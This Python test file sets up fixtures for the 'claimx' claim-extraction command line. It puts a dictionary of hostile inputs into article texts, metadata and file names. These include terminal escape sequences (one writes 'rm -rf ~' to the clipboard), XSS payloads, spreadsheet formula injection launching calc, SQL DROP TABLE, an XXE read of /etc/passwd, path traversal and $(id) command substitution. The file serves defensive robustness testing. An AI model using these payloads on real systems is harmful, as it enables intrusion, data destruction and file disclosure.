"""Articles that attack: texts, metadata and names of files that mean harm somewhere, with claims that are really found."""

from __future__ import annotations

import contextlib
import hashlib
import io
import json
import os
import sys

import pytest

from claimx.cli.commands import run

# What each means harm to, and the words. None holds a zero byte: such a file is no text, and is refused.
WORDS = {
    "terminal: clear and colour": "\x1b[2J\x1b[31mred\x1b[0m",
    "terminal: title, bell": "\x1b]0;owned\x07",
    "terminal: link": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "terminal: clipboard": "\x1b]52;c;cm0gLXJmIH4=\x07",
    "terminal: device query": "\x1bP$qm\x1b\\\x1b[6n",
    "terminal: one-byte controls": "\x9b31mred\x9d0;owned\x9c",
    "terminal: backspaces, delete": "safe\x08\x08\x08\x08evil\x7f",
    "terminal: return": "innocent\rclaimx: error: forged",
    "reader: override": "\u202etxt.exe\u202c",
    "reader: isolates and marks": "\u2066a\u2067b\u2069\u200f\u061c",
    "reader: invisible": "ki\u200blled\u2060 \ufeffnobody\u00ad\U000e0041",
    "rich: markup": "[bold red]loud[/] [/nothing] [link=http://evil.example]x[/link] \\[",
    "page: script": "</script><script>window.pwned = 1</script>",
    "page: comment": "<!--<script> --!> ]]> <![CDATA[",
    "page: element": "<img src=x onerror='window.pwned = 2'><svg/onload=window.pwned=3>",
    "page: attribute": "\"' onmouseover='window.pwned = 4' x=`",
    "page: address": "javascript:window.pwned=5",
    "page: entities": "&lt;b&gt; &#x3c;script&#x3e; &amp;amp;",
    "template": "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "sheet: equals": '=HYPERLINK("http://evil.example?"&A1,"x")',
    "sheet: plus": "+cmd|' /C calc'!A0",
    "sheet: minus": "-2+3+cmd|' /C calc'!A0",
    "sheet: at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "sheet: tab": "\t=1+1",
    "sheet: return": "\r=1+1",
    "sheet: full width": "＝1+1",
    "sheet: behind a separator": 'a;=1+1;"=2',
    "server: command": "::error file=a.py,line=1::forged",
    "server: output": "::set-output name=token::forged",
    "server: stop": " ::stop-commands::x",
    "server: old command": "##[error]forged ##vso[task.setvariable variable=x]forged",
    "lines: forged record": '\n{"schema_version": "1"}\n',
    "lines: forged command": "\n::warning::forged\n",
    "lines: separators": "a\u2028b\u2029c\u0085d\x0be\x0cf\x1cg",
    "markdown: cell, image, link": "a | b ![x](http://evil.example/?q) [x](http://evil.example) `code`",
    "markdown: mention": "@everyone #1 GH-1 www.evil.example http://evil.example **bold** <details>",
    "sql": "'; DROP TABLE claims; --",
    "full-text search": '" OR 1=1 NEAR(* )',
    "xml": "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "paths": "../../../../etc/passwd %2e%2e/ C:\\windows ~root $HOME $(id) `id`",
    "format": "%s %n {0} {claim.__class__} %(x)s",
    "json": '\\u0022, "id": "x", \\',
    "beyond U+FFFF, combining": "💥🇺🇦👨‍👩‍👧 Z̸̢a\u0301",
    "long": "long" * 150,
}  # fmt: skip

# Claims around the words: in the sentence, in the quotation, in the name of the source and of the place, beside the number.
SENTENCES = (
    "{0} Shelling killed {1} civilians in Sumy on 6 May 2024, the {0} Observatory said. "
    "“At least {2} soldiers of {0} were wounded near {0} Hill {0},” said {0} Ivanov, {0} of {0}.\n\n"
    "Rebels destroyed {3} {0} tanks {0} in Mopti, according to {0}.\n"
)

# Names of files: bytes, as Linux has them. What a name cannot hold (a slash, a zero byte) is left out of the words.
NAMES = (
    *(words.replace("/", "\u2215").encode("utf-8", "surrogatepass")[:200] for words in WORDS.values()),
    b"-rf", b"--help", b"-", b"caf\xe9 \xff\xfe", b"*", b"[a-z]?", b" ", b"a" * 240, b"CON", b"null.meta",
)  # fmt: skip

TEXT = "Shelling killed {} people in Sumy on 6 May 2024, the mayor said.\n"


class Terminal(io.TextIOWrapper):
    """A stream that says it is a terminal."""

    def isatty(self):
        return True


class Ran:
    """What a command printed, and its exit code."""

    def __init__(self, code, out, err):
        self.code, self.raw, self.out, self.err = code, out, out.decode("utf-8"), err.decode("utf-8")


class Remembering:
    """An extractor that reads every article once: here outputs are tried, not reading."""

    def __init__(self, extractor):
        self._extractor, self._found, self._refused = extractor, {}, {}

    def pipe(self, articles):
        given = {(article.path, article.id, article.sha256): article for article in articles}
        new = [article for key, article in given.items() if key not in self._found]
        for article, records in self._extractor.pipe(new):
            self._found[article.path, article.id, article.sha256] = records
        for key, article in given.items():
            yield article, self._found[key]

    def audit(self, article):
        key = article.path, article.id, article.sha256
        if key not in self._refused:
            self._refused[key] = list(self._extractor.audit(article))
        return self._refused[key]


@pytest.fixture(scope="session")
def remembering(extractor):
    return Remembering(extractor)


@pytest.fixture(scope="session")
def claimx(remembering):
    """Runs a command in this process, with one loaded model for all."""

    def claimx(*arguments, stdin=b"", terminal=False):
        out, err = io.BytesIO(), io.BytesIO()
        streams = [(Terminal if terminal else io.TextIOWrapper)(buffer, encoding="utf-8") for buffer in (out, err)]
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr("claimx.pipeline.Extractor", lambda **_: remembering)
            patch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(stdin), encoding="utf-8"))
            if terminal:
                patch.setenv("TERM", "xterm-256color")
                patch.setenv("COLUMNS", "120")
            with contextlib.redirect_stdout(streams[0]), contextlib.redirect_stderr(streams[1]):
                code = run([str(argument) for argument in arguments])
                for stream in streams:
                    stream.flush()
        return Ran(code, out.getvalue(), err.getvalue())

    return claimx


@pytest.fixture(scope="session")
def folder(tmp_path_factory):
    """Everything hostile: rows.jsonl (words in texts and metadata), names/ (in names and sidecars), both read alike."""
    folder = tmp_path_factory.mktemp("hostile")
    rows = []
    for number, words in enumerate(WORDS.values()):
        text = SENTENCES.format(words, 100 + number, 200 + number, 300 + number)
        rows.append(
            {"text": text, "id": words, "title": words, "publisher": words, "url": words, "published": "2024-05-07"}
        )
    (folder / "rows.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), encoding="utf-8")
    names = folder / "names"
    names.mkdir()
    for number, name in enumerate(NAMES):
        stem = os.fsdecode(name)
        (names / f"{stem}.txt").write_text(TEXT.format(number + 2), encoding="utf-8")
        words = list(WORDS.values())[number % len(WORDS)]
        if len(name) + len(".meta.json") <= 255:
            known = {"title": words, "publisher": words, "path": "../../etc/passwd", "url": words}
            (names / f"{stem}.meta.json").write_text(json.dumps(known), encoding="utf-8")
    return folder


@pytest.fixture(scope="session")
def rows(folder):
    return [json.loads(line) for line in (folder / "rows.jsonl").read_text("utf-8").splitlines()]


@pytest.fixture(scope="session")
def records(claimx, folder):
    """The records of all hostile articles, as ``claimx extract`` writes them."""
    path = folder / "records.jsonl"
    ran = claimx("extract", folder / "rows.jsonl", folder / "names", "-o", path, "--keep-text", folder.parent / "kept")
    assert ran.code == 0, ran.err
    return path


@pytest.fixture(scope="session")
def forged(records):
    """Records no text gave: every word of theirs that a record may hold freely is hostile."""
    lines = [json.loads(line) for line in records.read_text("utf-8").split("\n") if line]
    path = records.with_name("forged.jsonl")
    out = []
    for number, words in enumerate(WORDS.values()):
        record = json.loads(json.dumps(next(line for line in lines if line["affected"] and line["source"])))
        record["id"] = "cx_" + hashlib.sha256(words.encode()).hexdigest()[:16]
        record["quantity"].update(low=10 + number, high=10 + number, value=10 + number)
        for part, names in {
            "affected": ("name", "id", "text"), "source": ("name", "via", "text", "party"), "item": ("model", "text"),
            "location": ("name", "text", "country"), "document": ("id", "title", "publisher", "url", "path"), "date": ("text",),
            "evidence": ("text",),
        }.items():  # fmt: skip
            for name in names:
                if record.get(part) and (name in record[part]):
                    record[part][name] = words
        record["document"]["sha256"] = hashlib.sha256(words.encode()).hexdigest()
        record["rules"] = [*record["rules"], words]
        out.append(record)
    path.write_text("".join(json.dumps(record) + "\n" for record in out), encoding="utf-8")
    return path
